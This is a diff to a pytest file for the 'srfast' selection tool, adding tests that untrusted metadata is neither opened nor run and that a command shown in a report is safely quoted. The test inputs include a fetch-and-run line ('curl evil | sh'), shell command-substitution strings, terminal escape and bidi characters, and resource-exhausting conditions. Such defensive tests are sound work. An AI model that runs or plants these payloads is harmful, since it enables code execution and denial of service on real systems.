@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import logging
+import os
 import shlex
+import subprocess
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
@@ -14,7 +17,9 @@ from PIL import Image
 
 import srfast
 from srfast.cli.select import command as select_command
+from srfast.coreset.pairs import read_patches
 from srfast.coreset.settings import Selection
+from srfast.errors import InputError
 from srfast.report.explorer import explorer
 from srfast.report.scores import DROPPED, KEPT, Scores, read_scores
 from srfast.report.writing import write_report
@@ -65,7 +70,8 @@ def test_dropped_patches_are_of_those_that_pass(table: ScoreTable, selections: l
         core = srfast.select(table, **asked)
         about, status = core.meta["selection"], read(table, core).status
         assert status is not None
-        assert (status == DROPPED).sum() == about["dropped_hardest"], asked
+        # A list that only the metadata name is not opened, so that what it left out is not known.
+        assert (status == DROPPED).sum() == (0 if "reject" in asked else about["dropped_hardest"]), asked
         assert (status == KEPT).sum() == len(core)
         limits = {name: asked[name] for name in ("where", "clean", "reject", "one_size") if name in asked}
         whole = srfast.select(table, keep=1.0, sizes="all", **limits)
@@ -75,15 +81,62 @@ def test_dropped_patches_are_of_those_that_pass(table: ScoreTable, selections: l
                    for i in np.flatnonzero(status == DROPPED))  # fmt: skip
 
 
-def test_a_list_that_is_gone_marks_nothing(table: ScoreTable, tmp_path: Path) -> None:
-    rejects = tmp_path / "r.csv"
-    rejects.write_text("image,x,y,size\nb.png,,,\n")
-    core = srfast.select(table, keep=0.3, drop_hardest=0.2, reject=rejects)
-    for change in (lambda: rejects.write_text("image,x,y,size\na.png,,,\nb.png,,,\n"), rejects.unlink):
-        change()
+@pytest.mark.parametrize(
+    ("theirs", "said"),
+    [
+        ({"reject": "a pipe"}, "the list of rejects that its metadata name is not opened"),
+        ({"where": "(select count(*) from range(1000000000000)) > 0"}, "the condition in its metadata is not run"),
+        ({"where": "len(range(3000000000)) > 0"}, "is not run, since it has 'len'"),
+    ],
+)
+def test_nothing_that_only_the_metadata_name_is_opened_or_run(
+    theirs: dict[str, str], said: str, table: ScoreTable, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A pipe waited without end, /dev/zero took all memory, and so did conditions."""
+    core = srfast.select(table, keep=0.3, drop_hardest=0.2)
+    if "reject" in theirs:
+        theirs = {"reject": str(tmp_path / theirs["reject"])}
+        os.mkfifo(theirs["reject"])
+    core.meta["selection"].update(theirs)
+    with caplog.at_level(logging.WARNING, "srfast"):
         status = read(table, core).status
-        assert status is not None
-        assert set(np.unique(status)) == {0, KEPT}
+    assert status is not None
+    assert set(np.unique(status)) == {0, KEPT}
+    assert said in caplog.text
+
+
+WRONG = {
+    "keep": "half", "where": 3, "reject": 5, "method": [], "order": "up", "window": [1], "nms": "x", "clean": "yes",
+    "dropped_hardest": "1", "patches": 1.5, "passing": -1, "rejected": [1], "by_size": 3,
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("key", WRONG)
+def test_wrong_types_name_the_file_and_the_key(key: str, table: ScoreTable, tmp_path: Path) -> None:
+    core = srfast.select(table, keep=0.3)
+    core.meta["selection"][key] = WRONG[key]
+    core.write(path := tmp_path / "c.parquet")
+    for look in (srfast.CoreSet.read, read_patches):
+        with pytest.raises(InputError, match=rf"c\.parquet: selection: {key}: expected .*, got "):
+            look(path)
+    with pytest.raises(InputError, match=rf"core-set: selection: {key}: expected .*, got "):
+        read(table, core)
+
+
+@pytest.mark.parametrize("method", ["loss\ncurl evil | sh\n", "a'b\n\x03\x1b[2K", "\u202etxt\u2028", "$(id)`id`!x"])
+def test_what_is_copied_is_one_line_and_one_word(
+    method: str, table: ScoreTable, tmp_path: Path, visit: Callable[..., Any]
+) -> None:
+    core = srfast.select(table, keep=0.3)
+    core.meta["selection"]["method"] = method
+    page = visit(write_report(table, core, tmp_path / "given.html"))
+    command = page.locator("#command").text_content()
+    assert all(c.isprintable() for c in command)
+    word = command.removeprefix("# ").removesuffix(" was a function; select with it in Python")
+    shown = subprocess.run(
+        ["bash", "-c", f"printf %s {word}"], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
+    )
+    assert shown.stdout.decode() == method
 
 
 def test_the_command_makes_the_core_set_again(
